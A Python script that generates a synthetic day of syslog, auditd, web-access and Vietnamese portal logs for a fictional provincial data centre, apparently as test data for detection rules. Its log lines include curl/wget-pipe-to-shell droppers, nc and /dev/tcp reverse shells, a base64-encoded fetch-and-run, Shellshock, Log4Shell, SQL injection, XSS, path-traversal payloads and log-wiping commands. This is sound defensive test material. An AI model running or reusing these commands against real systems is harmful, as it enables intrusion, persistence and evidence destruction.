#!/usr/bin/env python3
"""Generate samples/soc-demo.log: one day of mixed logs from a provincial data centre.

Run from anywhere:  python3 samples/make_soc_demo.py  [> other/path]
By default it writes soc-demo.log next to this script. The output is
deterministic (fixed seed), so re-running it gives the same bytes.

What is in it (all hosts, users and addresses are invented; attacker addresses
come from the documentation ranges 192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24 and 2001:db8::/32, internal ones from 10.0.0.0/8):

  * RFC 3164 syslog from sshd, sudo, su, useradd/groupadd/usermod/userdel,
    passwd, CRON and systemd-logind on soc-dc01, portal-dichvucong,
    mail-binhphuoc and web-sotttt;
  * auditd record groups (SYSCALL/EXECVE/CWD/PATH/PROCTITLE/EOE), with
    EXECVE arguments hex-encoded the way auditd does it;
  * nginx/Apache combined access-log lines, mostly ordinary portal traffic;
  * a few RFC 5424 syslog lines, a few JSON lines, and a few lines that are
    not syslog at all (application output, a stack trace, a blank line);
  * the one-stop-shop portal's own log, in Vietnamese (NFC, and NFD in
    capitals from the LGSP's Java client).

The attack story (every rule in rules/ fires at least once on samples/*.log):
password guessing against mail-binhphuoc that ends in a root login; botnet
command injection and Shellshock against web-sotttt; WordPress brute force;
scanners, .env/.git probes (one .env is actually served); Log4Shell probes;
SQL injection, XSS and path traversal against the public-service portal; sudo
and su misuse by staff; an unplanned UID-0 account; and at night a web shell
on portal-dichvucong leading to a dropper, a miner, a crontab, a reverse
shell, then root via a stolen password and log/audit clearing.
"""
import os
import random
import sys

SEED = 20261123
EPOCH_DAY = 1795366800          # 2026-11-23 00:00:00 +07:00
rng = random.Random(SEED)

CHROME = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
          "(KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36")
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"
MOBILE = ("Mozilla/5.0 (Linux; Android 13; SM-A546E) AppleWebKit/537.36 "
          "(KHTML, like Gecko) Chrome/118.0.0.0 Mobile Safari/537.36")
ZALO = ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Mobile/15E148 Zalo iOS/23.11.01")
BOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"

entries = []   # (seconds since midnight, tie-breaker, [lines])


def sec(hms):
    h, m, s = map(int, hms.split(":"))
    return h * 3600 + m * 60 + s


def hms(t):
    return "%02d:%02d:%02d" % (t // 3600, t // 60 % 60, t % 60)


def add(t, lines):
    entries.append((t, len(entries), lines if isinstance(lines, list) else [lines]))


def syslog(t, host, prog, msg):
    t = sec(t) if isinstance(t, str) else t
    add(t, "Nov 23 %s %s %s: %s" % (hms(t), host, prog, msg))


def access(t, ip, method, target, status, size, ua, ref="-", proto="HTTP/1.1"):
    t = sec(t) if isinstance(t, str) else t
    add(t, '%s - - [23/Nov/2026:%s +0700] "%s %s %s" %d %d "%s" "%s"'
        % (ip, hms(t), method, target, proto, status, size, ref, ua))


def _enc(a):
    if any(ord(c) <= 0x20 or ord(c) >= 0x7F or c == '"' for c in a):
        return a.encode().hex().upper()
    return '"%s"' % a


def audit(t, serial, exe, args, uid=0, auid=1000, cwd="/root", tty="pts0",
          ses=3, pid=4242, ppid=4200, key=None):
    """One auditd execve record group, as auditd writes it to audit.log."""
    t = sec(t) if isinstance(t, str) else t
    m = "msg=audit(%d.%03d:%d):" % (EPOCH_DAY + t, rng.randrange(1000), serial)
    comm = os.path.basename(exe)[:15]
    k = '"%s"' % key if key else "(null)"
    if uid in (33, 65534):
        tty, ses, auid = "(none)", 4294967295, 4294967295
    lines = [
        "type=SYSCALL %s arch=c000003e syscall=59 success=yes exit=0 a0=55d2c1a0e2b0 "
        "a1=55d2c1a0e6f0 a2=55d2c1a0e9c8 a3=8 items=1 ppid=%d pid=%d auid=%d uid=%d "
        "gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=%s ses=%d "
        'comm="%s" exe="%s" key=%s'
        % (m, ppid, pid, auid, uid, uid, uid, uid, uid, uid, uid, uid, tty, ses, comm, exe, k),
        "type=EXECVE %s argc=%d %s" % (m, len(args), " ".join(
            "a%d=%s" % (i, _enc(a)) for i, a in enumerate(args))),
        'type=CWD %s cwd="%s"' % (m, cwd),
        'type=PATH %s item=0 name="%s" inode=%d dev=fd:00 mode=0100755 ouid=0 ogid=0 '
        "rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0"
        % (m, exe, 1000 + serial % 9000),
        "type=PROCTITLE %s proctitle=%s" % (m, "\0".join(args).encode().hex().upper()[:256]),
        "type=EOE %s" % m,
    ]
    add(t, lines)


def audit_raw(t, line):
    add(sec(t), line)


# --------------------------------------------------------------------------
# Benign background
# --------------------------------------------------------------------------
HOSTS = ["soc-dc01", "portal-dichvucong", "mail-binhphuoc", "web-sotttt"]
STAFF = [("nguyenvana", "10.20.3.17"), ("tranthib", "10.20.3.22"), ("deploy", "10.20.3.40"),
         ("mailops", "10.20.5.11"), ("webadmin", "10.20.3.31")]
KEYS = ["RSA SHA256:Kl8kPGZrTiz7g4FO1hyqHdsSBBb5Fge6NWOobN03XJg",
        "ED25519 SHA256:3f6oJm0qVcXb7cJ0m9vA1Zr9QvS3wqJ8y5yq0Vn3LkE"]

for h in range(0, 24, 3):                       # hourly-ish cron on every host
    for host in HOSTS[:2]:
        pid = rng.randrange(20000, 30000)
        t = h * 3600 + 17 * 60 + 1
        syslog(t, host, "CRON[%d]" % pid, "pam_unix(cron:session): session opened for user root by (uid=0)")
        syslog(t + 1, host, "CRON[%d]" % pid, "pam_unix(cron:session): session closed for user root")

for i in range(10):                             # staff key logins and benign sudo
    user, ip = STAFF[i % len(STAFF)]
    host = HOSTS[i % 4]
    t = sec("07:50:00") + i * 1500 + rng.randrange(600)
    pid = rng.randrange(2000, 30000)
    syslog(t, host, "sshd[%d]" % pid, "Accepted publickey for %s from %s port %d ssh2: %s"
           % (user, ip, rng.randrange(40000, 65000), KEYS[i % 2]))
    syslog(t, host, "sshd[%d]" % pid, "pam_unix(sshd:session): session opened for user %s by (uid=0)" % user)
    syslog(t + 1, host, "systemd-logind[812]", "New session %d of user %s." % (100 + i, user))
    cmd = ["/usr/bin/systemctl status nginx", "/usr/bin/tail -n 200 /var/log/nginx/error.log",
           "/usr/bin/apt-get update", "/usr/sbin/postqueue -p", "/usr/bin/docker ps"][i % 5]
    syslog(t + 40, host, "sudo", "  %s : TTY=pts/%d ; PWD=/home/%s ; USER=root ; COMMAND=%s"
           % (user, i % 3, user, cmd))
    syslog(t + 40, host, "sudo", "pam_unix(sudo:session): session opened for user root by %s(uid=0)" % user)
    syslog(t + 41, host, "sudo", "pam_unix(sudo:session): session closed for user root")
    syslog(t + 900, host, "sshd[%d]" % pid, "pam_unix(sshd:session): session closed for user %s" % user)

PAGES = ["/", "/tin-tuc", "/tin-tuc/chi-tiet.php?id=%d", "/thu-tuc-hanh-chinh", "/tra-cuu-ho-so?ma=HS%06d",
         "/dich-vu-cong/nop-ho-so", "/van-ban/2026/quyet-dinh-%d.pdf", "/lien-he", "/tim-kiem?q=giay+phep+xay+dung",
         "/static/css/main.css?v=3.2", "/static/js/app.min.js?v=3.2", "/static/img/logo-binhphuoc.png",
         "/api/v1/ho-so/trang-thai?ma=HS%06d", "/favicon.ico", "/robots.txt"]
CLIENTS = ["10.20.8.%d" % i for i in range(10, 60)] + ["14.161.%d.%d" % (i, i * 3 % 250) for i in range(1, 9)] \
    + ["113.172.%d.%d" % (i, i * 7 % 250) for i in range(1, 9)]
for i in range(90):
    t = sec("06:30:00") + rng.randrange(15 * 3600)
    page = rng.choice(PAGES)
    if "%" in page:
        page = page % rng.randrange(1, 999999)
    status, size = (200, rng.randrange(800, 60000))
    if rng.random() < 0.08:
        status, size = 304, 0
    elif rng.random() < 0.04:
        status, size = 404, 196
    method = "POST" if page.startswith("/dich-vu-cong/nop") else "GET"
    ua = rng.choice([CHROME, CHROME, FIREFOX, MOBILE, ZALO, BOT])
    ref = "https://dichvucong.binhphuoc.example.vn/" if rng.random() < 0.5 else "-"
    access(t, rng.choice(CLIENTS), method, page, status, size, ua, ref)
access("08:00:50", "10.20.8.15", "GET", "/wp-login.php", 200, 4120, CHROME)
access("08:01:00", "10.20.8.15", "POST", "/wp-login.php", 302, 0, CHROME,
       "https://sotttt.binhphuoc.example.vn/wp-login.php")
access("09:42:01", "10.20.8.15", "GET", "/tim-kiem?q=union+station+select+menu", 200, 15320, CHROME)
access("10:03:10", "10.20.8.15", "GET", "/static/js/script.min.js?v=3.2", 200, 40211, CHROME)
access("10:30:00", "10.20.8.15", "GET", "/tin-tuc?id=2026;page=3", 200, 15320, CHROME)
access("10:40:05", "66.249.66.1", "GET", "/sitemap.xml", 200, 3120, BOT)
access("10:45:05", "10.20.1.10", "GET", "/api/v1/status", 200, 52, "curl/7.81.0")

audit("09:12:00", 70300, "/usr/bin/tail", ["tail", "-n", "200", "/var/log/auth.log"], auid=1001, pid=20501, ppid=20300)
audit("09:13:00", 70310, "/usr/bin/rm", ["rm", "-rf", "/tmp/build-cache"], uid=1001, auid=1001,
      cwd="/home/nguyenvana", pid=20511, ppid=20300)
audit("10:31:00", 70510, "/usr/bin/wget", ["wget", "-O", "/opt/portal/release-2.4.1.tar.gz",
      "https://repo.sotttt.example.vn/portal/release-2.4.1.tar.gz"], auid=1001, cwd="/opt/portal", pid=20711, ppid=20300)
audit("10:40:00", 70600, "/usr/bin/bash", ["bash", "-c", "curl -s https://api.portal.example.vn/status | jq .uptime"],
      uid=1001, auid=1001, cwd="/home/nguyenvana", pid=20801, ppid=20300)
audit("11:00:00", 70800, "/usr/bin/nc.openbsd", ["nc", "-zv", "10.20.1.10", "22"], uid=1001, auid=1001,
      cwd="/home/nguyenvana", pid=21001, ppid=20300)
audit("11:20:00", 71000, "/usr/sbin/ufw", ["ufw", "status", "verbose"], auid=1001, pid=21201, ppid=20300)

# RFC 5424, JSON and non-syslog lines
add(sec("08:15:02"), "<38>1 2026-11-23T08:15:02.123+07:00 soc-dc01 sshd 2211 - - Accepted publickey for "
    "nguyenvana from 10.20.3.17 port 51022 ssh2: " + KEYS[0])
add(sec("08:30:00"), '<134>1 2026-11-23T08:30:00.001+07:00 lgsp-gw01 lgsp-adapter 4412 AUDIT '
    '[meta@32473 unit="So TT&TT" sequenceId="1"] document 2026/QD-UBND delivered to 47 units')
add(sec("02:42:10"), "<38>1 2026-11-23T02:42:10.551+07:00 mail-binhphuoc sshd 9921 - - Failed password "
    "for root from 203.0.113.77 port 38940 ssh2")
add(sec("09:00:00"), '{"@timestamp":"2026-11-23T09:00:00+07:00","host":{"name":"ioc-dashboard"},'
    '"event":{"action":"report_generated"},"message":"bao cao tuan 47 da tao","user":{"name":"tranthib"}}')
add(sec("09:00:05"), '{"@timestamp":"2026-11-23T09:00:05+07:00","host":{"name":"mail-binhphuoc"},'
    '"event":{"action":"mailbox_quota"},"message":"8113 mailboxes checked, 12 over quota"}')
add(sec("13:00:00"), '{"@timestamp":"2026-11-23T13:00:00+07:00","source":{"ip":"203.0.113.9"},'
    '"url":{"original":"/api/v1/ho-so?ma=${jndi:ldap://203.0.113.9/x}"},"message":"rejected by WAF"}')
add(sec("07:00:00"), "==== backup job daily-portal-db started ====")
add(sec("07:04:31"), "==== backup job daily-portal-db finished: 4.2 GiB in 271 s ====")
add(sec("12:30:00"), "java.lang.NullPointerException: null")
add(sec("12:30:00"), "\tat vn.gov.binhphuoc.egov.DocumentService.route(DocumentService.java:212)")
add(sec("12:30:01"), "")

# --------------------------------------------------------------------------
# Attacks and misuse
# --------------------------------------------------------------------------
M, A = "mail-binhphuoc", "203.0.113.77"
t = sec("02:41:00")
for i, user in enumerate(["root", "admin", "root", "oracle", "root", "test", "root"]):
    pid = 9900 + i
    port = 38800 + i * 7
    if user == "root":
        syslog(t + i * 3, M, "sshd[%d]" % pid, "Failed password for root from %s port %d ssh2" % (A, port))
    else:
        syslog(t + i * 3, M, "sshd[%d]" % pid, "Invalid user %s from %s port %d" % (user, A, port))
        syslog(t + i * 3 + 1, M, "sshd[%d]" % pid, "Failed password for invalid user %s from %s port %d ssh2" % (user, A, port))
syslog("02:41:40", M, "sshd[9910]", "error: maximum authentication attempts exceeded for root from %s port 38990 ssh2 [preauth]" % A)
syslog("02:41:40", M, "sshd[9910]", "Disconnecting authenticating user root %s port 38990: Too many authentication failures [preauth]" % A)
syslog("02:47:03", M, "sshd[9960]", "Accepted password for root from %s port 38990 ssh2" % A)
syslog("02:47:03", M, "sshd[9960]", "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)")
syslog("08:14:07", "portal-dichvucong", "sshd[21877]", "Failed password for ubuntu from 203.0.113.45 port 51522 ssh2")
syslog("06:12:40", M, "sshd[5512]", "ROOT LOGIN REFUSED FROM %s port 45511" % A)

# a second host, compromised through root: dropper, reverse shell, firewall
audit("02:13:09", 88120, "/usr/bin/sh", ["sh", "-c", "wget -qO- http://203.0.113.150/i | bash"], auid=0, pid=28810, ppid=28800)
audit("02:25:10", 88190, "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "203.0.113.66", "4444"], auid=0,
      cwd="/tmp", pid=28870, ppid=28800)
audit("02:30:00", 88230, "/usr/sbin/xtables-nft-multi", ["iptables", "-F"], auid=0, pid=28900, ppid=28800)

W = "web-sotttt"
syslog("04:10:44", W, "sshd[8123]", "reverse mapping checking getaddrinfo for 45.113.0.203.static.example.net "
       "[203.0.113.45] failed - POSSIBLE BREAK-IN ATTEMPT!")
syslog("05:01:17", "soc-dc01", "sshd[1822]", "Did not receive identification string from 198.51.100.201 port 61001")
syslog("05:02:40", "soc-dc01", "sshd[1830]", "Bad protocol version identification 'GET / HTTP/1.1' from 198.51.100.201 port 61044")
syslog("08:20:01", W, "sshd[3051]", "Invalid user oracle from 198.51.100.23 port 44120")
syslog("09:30:12", W, "sshd[4501]", "Accepted password for webadmin from 198.51.100.61 port 50212 ssh2")

access("03:15:44", "198.51.100.14", "GET", "/cgi-bin/ping.cgi?host=127.0.0.1;wget+http://198.51.100.14/mips;"
       "chmod+777+mips;./mips", 404, 196, "Mozilla/5.0")
access("03:15:50", "198.51.100.14", "GET", "/api/diag?ip=8.8.8.8%7Cid", 200, 88, "Mozilla/5.0")
access("03:20:11", "198.51.100.14", "GET", "/cgi-bin/status", 404, 196,
       '() { :; }; /bin/bash -c \\"wget http://198.51.100.14/x -O /tmp/x\\"')
for i in range(6):
    access(sec("04:01:02") + i * 4, "203.0.113.201", "POST", "/wp-login.php", 200, 3861,
           "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0",
           "https://sotttt.binhphuoc.example.vn/wp-login.php")
access("04:01:40", "203.0.113.201", "POST", "/xmlrpc.php", 200, 403,
       "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0")
access("05:10:02", "198.51.100.201", "GET", "/", 200, 612, "Mozilla/5.0 zgrab/0.x")
access("05:11:40", "198.51.100.202", "GET", "/nice%20ports%2C/Tri%6Eity.txt%2ebak", 404, 196,
       "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", proto="HTTP/1.0")
access("05:12:10", "198.51.100.203", "GET", "/", 200, 612, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)")
for i, p in enumerate(["/.env", "/.git/config", "/wp-config.php.bak", "/phpmyadmin/index.php", "/.aws/credentials"]):
    access(sec("05:20:10") + i * 2, "198.51.100.77", "GET", p, 404, 196, "python-requests/2.31.0")
access("05:31:02", "198.51.100.79", "GET", "/.env", 200, 1184, "Mozilla/5.0 (Windows NT 10.0; Win64; x64)")
access("06:44:01", "198.51.100.250", "GET", "/?x=${jndi:ldap://198.51.100.250:1389/a}", 404, 196, "Mozilla/5.0")
access("06:44:03", "198.51.100.250", "GET", "/", 200, 612,
       "${${lower:j}ndi:${lower:l}dap://198.51.100.250:1389/Exploit}")

P = "portal-dichvucong"
access("09:41:12", "203.0.113.45", "GET", "/tra-cuu-ho-so?ma=HS001%27%20UNION%20ALL%20SELECT%20NULL,username,"
       "password%20FROM%20users--%20-", 200, 4120, "sqlmap/1.7.11#stable (https://sqlmap.org)")
access("09:41:15", "203.0.113.45", "GET", "/tin-tuc/chi-tiet.php?id=12%27+or+1%3D1--+-", 500, 612,
       "sqlmap/1.7.11#stable (https://sqlmap.org)")
access("09:41:20", "203.0.113.45", "GET", "/tin-tuc/chi-tiet.php?id=12+AND+SLEEP(5)", 200, 9344,
       "sqlmap/1.7.11#stable (https://sqlmap.org)")
access("10:02:31", "198.51.100.88", "GET", "/tim-kiem?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", 200, 15102, CHROME)
access("10:02:40", "198.51.100.88", "GET", "/lien-he?name=%22%3E%3Csvg/onload=alert(1)%3E", 200, 8731, CHROME)
access("10:10:01", "203.0.113.99", "GET", "/download.php?file=../../../../etc/passwd", 200, 2301, CHROME)
access("10:10:05", "203.0.113.99", "GET", "/static/..%2f..%2f..%2fetc%2fshadow", 400, 226, CHROME)

# staff: sudo and su
S = "soc-dc01"
syslog("10:05:11", S, "sudo[8812]", "tranthib : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/tranthib ; "
       "USER=root ; COMMAND=/usr/bin/apt update")
syslog("10:07:15", W, "sudo", "  mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/mallory ; USER=root ; COMMAND=/usr/bin/id")
syslog("10:08:00", W, "sudo", "  deploy : command not allowed ; TTY=pts/0 ; PWD=/srv/www ; USER=root ; "
       "COMMAND=/usr/bin/vim /etc/sudoers")
syslog("11:02:33", S, "sudo[9011]", "nguyenvana : TTY=pts/0 ; PWD=/home/nguyenvana ; USER=root ; COMMAND=/bin/bash")
syslog("12:01:44", M, "su[14402]", "FAILED SU (to root) mailops on pts/1")
syslog("12:01:44", M, "su[14402]", "pam_unix(su:auth): authentication failure; logname=mailops uid=1004 euid=0 "
       "tty=/dev/pts/1 ruser=mailops rhost=  user=root")
syslog("12:03:00", M, "su[14420]", "(to root) mailops on pts/1")
syslog("12:03:00", M, "su[14420]", "pam_unix(su:session): session opened for user root(uid=0) by mailops(uid=1004)")

# accounts: a planned one in the afternoon, an unplanned UID-0 one
syslog("14:02:10", S, "groupadd[24509]", "group added to /etc/group: name=tranvanc, GID=1004")
syslog("14:02:10", S, "groupadd[24509]", "group added to /etc/gshadow: name=tranvanc")
syslog("14:02:10", S, "groupadd[24509]", "new group: name=tranvanc, GID=1004")
syslog("14:02:11", S, "useradd[24511]", "new user: name=tranvanc, UID=1004, GID=1004, home=/home/tranvanc, "
       "shell=/bin/bash, from=/dev/pts/0")
audit_raw("14:02:11", "type=ADD_USER msg=audit(1795417331.402:71811): pid=24511 uid=0 auid=1001 ses=12 "
          "subj=unconfined msg='op=adding user acct=\"tranvanc\" exe=\"/usr/sbin/useradd\" hostname=soc-dc01 "
          "addr=? terminal=pts/0 res=success'")
syslog("14:05:00", S, "usermod[24530]", "add 'tranvanc' to group 'sudo'")
syslog("14:05:00", S, "usermod[24530]", "add 'tranvanc' to shadow group 'sudo'")
syslog("14:06:00", S, "usermod[24540]", "add 'tranvanc' to group 'developers'")
syslog("14:20:05", P, "useradd[31301]", "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/4")
syslog("15:10:02", M, "userdel[17701]", "delete user 'lethid'")
syslog("15:10:02", M, "userdel[17701]", "removed group 'lethid' owned by 'lethid'")

# night: web shell on the portal, then root
WS = "203.0.113.150"
access("23:26:05", WS, "GET", "/uploads/2026/11/avatar.php?cmd=id", 200, 54, CHROME)
access("23:26:20", WS, "GET", "/uploads/2026/11/avatar.php?cmd=uname+-a", 200, 120, CHROME)
access("23:26:40", WS, "POST", "/uploads/2026/11/avatar.php", 200, 31, CHROME)
www = dict(uid=33, cwd="/var/www/html/uploads", ppid=30990)
audit("23:27:40", 90995, "/usr/bin/bash", ["bash", "-c", "curl -fsSL http://198.51.100.23/x.sh | sh"], pid=31015, **www)
audit("23:27:51", 91001, "/usr/bin/wget", ["wget", "-q", "http://198.51.100.23/k.sh", "-O", "/tmp/.k.sh"], pid=31020, **www)
audit("23:27:58", 91004, "/usr/bin/curl", ["curl", "-s", "-o", "/dev/shm/.k/kworkerd",
      "http://198.51.100.23/bin/kworkerd"], pid=31025, **www)
audit("23:28:01", 91008, "/usr/bin/chmod", ["chmod", "+x", "/dev/shm/.k/kworkerd"], pid=31030, **www)
audit("23:28:40", 91020, "/usr/bin/crontab", ["crontab", "/tmp/.c"], pid=31050, **www)
audit("23:31:15", 91060, "/dev/shm/.k/kworkerd", ["/dev/shm/.k/kworkerd", "-o", "pool.example.net:443"],
      uid=33, cwd="/dev/shm/.k", ppid=31100, pid=31110)
audit("23:32:30", 91080, "/usr/bin/bash", ["bash", "-c", "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94IHwgc2g= "
      "| base64 -d | bash"], pid=31130, **www)
audit("23:33:05", 91090, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1"], pid=31140, **www)
syslog("23:33:40", P, "sudo[30112]", "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html/uploads ; "
       "USER=root ; COMMAND=/bin/cat /etc/shadow")
syslog("23:34:02", P, "su[30120]", "FAILED SU (to webadmin) www-data on none")
# webadmin's password was in a config file the shell could read
adm = dict(auid=1003, cwd="/tmp", ppid=31001)
syslog("23:29:50", P, "sshd[31000]", "Accepted password for webadmin from 198.51.100.61 port 50990 ssh2")
syslog("23:30:02", P, "sudo[31100]", "webadmin : TTY=pts/4 ; PWD=/home/webadmin ; USER=root ; "
       "COMMAND=/usr/bin/wget -q http://198.51.100.23/k.sh -O /dev/shm/.k.sh")
syslog("23:34:05", P, "sudo[31145]", "webadmin : TTY=pts/4 ; PWD=/tmp ; USER=root ; COMMAND=/usr/sbin/ufw disable")
audit("23:34:10", 91110, "/usr/sbin/ufw", ["ufw", "disable"], pid=31150, **adm)
syslog("23:35:12", P, "sudo[31150]", "webadmin : TTY=pts/4 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow")
syslog("23:36:00", P, "sudo[31170]", "webadmin : TTY=pts/4 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/su -")
syslog("23:38:12", P, "passwd[31180]", "pam_unix(passwd:chauthtok): password changed for root")
syslog("23:38:30", P, "usermod[31330]", "add 'sysupdate' to group 'wheel'")
audit("23:31:30", 91064, "/usr/bin/chmod", ["chmod", "755", "dbus-helper"], pid=31115, auid=1003, cwd="/tmp/.x", ppid=31001)
audit("23:31:40", 91066, "/tmp/.x/dbus-helper", ["./dbus-helper"], pid=31120, auid=1003, cwd="/tmp/.x", ppid=31001)
syslog("23:41:07", P, "sudo[31220]", "webadmin : TTY=pts/4 ; PWD=/tmp ; USER=root ; "
       "COMMAND=/usr/bin/rm -f /var/log/auth.log /var/log/auth.log.1")
audit("23:41:07", 91190, "/usr/bin/rm", ["rm", "-f", "/var/log/auth.log", "/var/log/auth.log.1"], pid=31221, **adm)
audit("23:41:20", 91195, "/usr/bin/journalctl", ["journalctl", "--rotate", "--vacuum-time=1s"], pid=31232, **adm)
audit("23:41:31", 91199, "/usr/bin/shred", ["shred", "-uz", "/var/log/nginx/access.log"], pid=31241, **adm)
audit("23:42:02", 91204, "/usr/sbin/auditctl", ["auditctl", "-D"], pid=31260, **adm)
audit("23:42:09", 91210, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], pid=31270, **adm)
audit_raw("23:42:19", 'type=DAEMON_END msg=audit(1795452139.610:91215): op=terminate auid=0 uid=0 '
          'ses=4294967295 subj=unconfined pid=1 comm="systemd" exe="/usr/lib/systemd/systemd" res=success')
audit("23:43:02", 91220, "/usr/bin/bash", ["bash", "-c", "history -c; unset HISTFILE"], pid=31280, auid=1003, ppid=31001)
audit("23:43:15", 91225, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"], pid=31285, auid=1003, ppid=31001)
syslog("23:44:51", P, "userdel[31410]", "delete user 'sysupdate'")

# --- the one-stop-shop portal logs in Vietnamese: an officer's account is
# guessed until it locks; the LGSP's Java client writes NFD and capitals
import unicodedata
for k in range(1, 6):
    syslog("10:41:%02d" % (10 + 8 * k), P, "motcua[4410]",
           "Đăng nhập sai mật khẩu: tài khoản canbo.tiepnhan từ 198.51.100.23 (lần %d)" % k)
syslog("10:42:18", P, "motcua[4410]", "Tài khoản canbo.tiepnhan bị khóa do đăng nhập sai 5 lần")
syslog("10:51:02", P, "lgsp[2210]",
       unicodedata.normalize("NFD", "TÀI KHOẢN CANBO.MOTCUA BỊ KHOÁ DO ĐĂNG NHẬP SAI 5 LẦN"))
syslog("11:05:40", P, "motcua[4410]", "Tài khoản canbo.tiepnhan đã được mở khóa bởi quản trị viên")
syslog("11:06:02", P, "motcua[4410]", "Hồ sơ H2611230457 đã được tiếp nhận: Sở Tài nguyên và Môi trường")


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)), "soc-demo.log")
    entries.sort(key=lambda e: (e[0], e[1]))
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for _, _, lines in entries:
            for line in lines:
                f.write(line + "\n")


if __name__ == "__main__":
    main()
